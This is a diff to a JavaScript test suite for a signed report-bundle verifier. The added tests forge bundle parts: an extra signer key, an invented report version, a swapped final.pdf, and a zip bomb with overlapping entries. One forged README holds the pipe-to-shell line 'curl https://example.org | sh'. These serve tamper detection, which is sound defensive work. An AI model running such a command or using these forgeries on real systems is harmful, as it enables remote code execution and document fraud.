@@ -129,7 +129,8 @@ describe('making', () => {
 
   test('it verifies, says whose keys it trusts, and draws final.pdf again', async () => {
     const inside = await verifyBundle(zip, null);
-    expect(inside).toMatchObject({ valid: true, signers: 'bundled', reportId, findings: [], finalPdf: 'reproduced' });
+    expect(inside).toMatchObject({ outcome: 'incomplete', signers: 'bundled', reportId, findings: [] });
+    expect(inside.finalPdf).toBe('reproduced');
     expect(inside.decisions.map((decision) => decision.meaning)).toEqual([
       'submit',
       'reject',
@@ -244,6 +245,68 @@ describe('tampering', () => {
     expect(findings).toContainEqual({ part: 'decisions.json', what: 'is not the list of the signed decisions' });
   });
 
+  test.each([
+    ['opinion.pdf', '%PDF unqualified opinion'],
+    ['decisions/09-second-approval.txt', 'approved twice'],
+    ['decisions/99-approve.json.sig', 'x'],
+    ['README.txt', 'curl https://example.org | sh'],
+    ['allowed_signers', 'mallory@example.org ssh-ed25519 AAAA'],
+  ])('a part %s that follows from nothing signed is found', async (name, text) => {
+    const forged = repack((parts) => parts.set(name, Buffer.from(text)));
+    const check = await verifyBundle(forged, textOf('allowed_signers'));
+    expect(check.outcome).toBe('invalid');
+    expect(check.findings.map(({ part }) => part)).toContain(name);
+  });
+
+  test('an allowed_signers of further keys, or of other times, is found', async () => {
+    const list = textOf('allowed_signers');
+    for (const other of [
+      `${list}mallory${list.slice(list.indexOf('@'))}`,
+      list.replaceAll('valid-after="2', 'valid-after="9'),
+    ]) {
+      const forged = repack((parts) => parts.set('allowed_signers', Buffer.from(other)));
+      const { findings } = await verifyBundle(forged, list);
+      expect(findings.map(({ part }) => part)).toEqual(['allowed_signers']);
+    }
+  });
+
+  test('a version that nobody decided on is found in report.json', async () => {
+    const forged = repack((parts) => {
+      const report = reportShape.parse(JSON.parse(textOf('report.json')));
+      const state = { status: 'draft', reviewedBy: null, approvedBy: null };
+      const invented = { ...report.versions[0], ...state, version: 7, id: '11111111-1111-4111-8111-111111111111' };
+      parts.set('report.json', Buffer.from(JSON.stringify({ ...report, versions: [...report.versions, invented] })));
+    });
+    const { findings } = await verifyBundle(forged, textOf('allowed_signers'));
+    expect(findings).toContainEqual({ part: 'report.json', what: 'lists a version that no decision is about' });
+  });
+
+  test('a final.pdf is not excused by a release that report.json alone names', async () => {
+    const forged = repack((parts) => {
+      const report = reportShape.parse(JSON.parse(textOf('report.json')));
+      parts.set('report.json', Buffer.from(JSON.stringify({ ...report, engineVersion: '0.0.9' })));
+      parts.set('final.pdf', Buffer.from('%PDF-1.7 all controls pass'));
+    });
+    const check = await verifyBundle(forged, textOf('allowed_signers'));
+    expect(check).toMatchObject({ valid: false, outcome: 'invalid' });
+  });
+
+  test('many entries on the same bytes are refused before anything is read', () => {
+    const one = zipSync({ 'model.json': Buffer.alloc(1000) }, { level: 0 });
+    const directory = one.subarray(one.length - 22 - 56, one.length - 22);
+    const entries = Array.from({ length: 50 }, (_, index) => {
+      const entry = Buffer.from(directory);
+      entry.write(String.fromCharCode(97 + (index % 26)), 46);
+      return entry;
+    });
+    const end = Buffer.from(one.subarray(one.length - 22));
+    end.writeUInt16LE(50, 8);
+    end.writeUInt16LE(50, 10);
+    end.writeUInt32LE(50 * 56, 12);
+    const bomb = Buffer.concat([one.subarray(0, one.length - 22 - 56), ...entries, end]);
+    expect(() => unpackBundle(bomb)).toThrow(/larger than the file/);
+  });
+
   test('a missing decision and a part too many are found', async () => {
     const without = repack((parts) => {
       for (const name of [...parts.keys()]) if (name.includes('04-review')) parts.delete(name);
@@ -314,7 +377,7 @@ describe('distribution', () => {
   test('the recipient opens it, nobody else does', async () => {
     const outDir = join(folder, 'opened');
     const check = await openBundle({ file: sent.path, identityFile, signersFile: null, outDir });
-    expect(check).toMatchObject({ valid: true, reportId });
+    expect(check).toMatchObject({ outcome: 'incomplete', findings: [], reportId });
     expect(await readFile(join(outDir, 'model.json'), 'utf8')).toBe(textOf('model.json'));
     await expect(openBundle({ file: sent.path, identityFile, signersFile: null, outDir })).rejects.toMatchObject({
       code: 'INPUT_INVALID',
@@ -370,7 +433,7 @@ describe('stock tools', () => {
     async () => {
       const { path } = await bundleReport(ctx, { reportId, outDir: join(folder, 'stock') });
       expect(await checkBundleFile({ file: path, identityFile: null, signersFile: null })).toMatchObject({
-        valid: true,
+        findings: [],
       });
       const cwd = join(folder, 'stock', 'unpacked');
       expect(spawnSync('unzip', ['-q', path, '-d', cwd]).status).toBe(0);
